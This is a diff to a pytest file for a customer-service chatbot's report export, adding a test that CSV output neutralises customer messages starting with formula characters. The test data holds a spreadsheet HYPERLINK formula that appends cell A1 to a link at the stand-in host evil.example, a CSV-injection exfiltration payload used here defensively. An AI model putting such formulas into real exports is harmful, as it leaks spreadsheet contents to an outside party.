@@ -112,8 +112,20 @@ def test_html_escapes_and_csv_holds_every_figure(seeded):
     assert "&lt;script&gt;" in page and "<script>" not in page and "jan@voorbeeld.nl" not in page
     assert "Waar is mijn pakket +100 % t.o.v. vorige week" in page and "<svg" in page
     table = list(csv.reader(io.StringIO(to_csv(r))))
-    assert table[0] == ["metric", "key", "value"] and [tuple(row) for row in table[1:]] == rows(r)
+    assert table[0] == ["metric", "key", "value"] and [tuple(row) for row in table[1:]] == rows(r)  # no formula here
     assert ["containment", "share", "0.750"] in table and ["callbacks", "on_time", "1"] in table
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_a_customer_message_that_starts_a_formula_is_text_in_the_csv(seeded, start):
+    r = report_for(seeded)
+    formula = f'{start}HYPERLINK("https://evil.example/?"&A1;"Klik hier")'
+    r.misunderstood = [{"text": formula, "count": 2}, {"text": "gewoon een vraag", "count": 1}]
+    text = to_csv(r)
+    table = list(csv.reader(io.StringIO(text)))
+    assert ["misunderstood", "'" + formula, "2"] in table  # the spreadsheet shows it, it does not run it
+    assert ["misunderstood", "gewoon een vraag", "1"] in table
+    assert f'"misunderstood","\'{start}HYPERLINK(""https' in text  # quoted, its quotes doubled
 
 
 def test_a_wrong_period_is_refused_with_a_clear_message():
@@ -151,7 +163,7 @@ def test_bot_report_on_the_demo_data_writes_html_and_csv(tmp_path):
     page = (tmp_path / "out" / "balie-report-7d.html").read_text()
     table = (tmp_path / "out" / "balie-report-7d.csv").read_text()
     assert "Wat klanten nodig hebben" in page and "Sanne Bakker" not in page and "[naam]" in page
-    assert "conversations,total," in table and "handoff_reason," in table and "callbacks,on_time," in table
+    assert '"conversations","total",' in table and '"handoff_reason",' in table and '"callbacks","on_time",' in table
     again = subprocess.run([sys.executable, "-m", "bot", "report", "--since", "nooit"], env=env, capture_output=True,
                            text=True, cwd=ROOT)
     assert again.returncode == 2 and "7d" in again.stderr
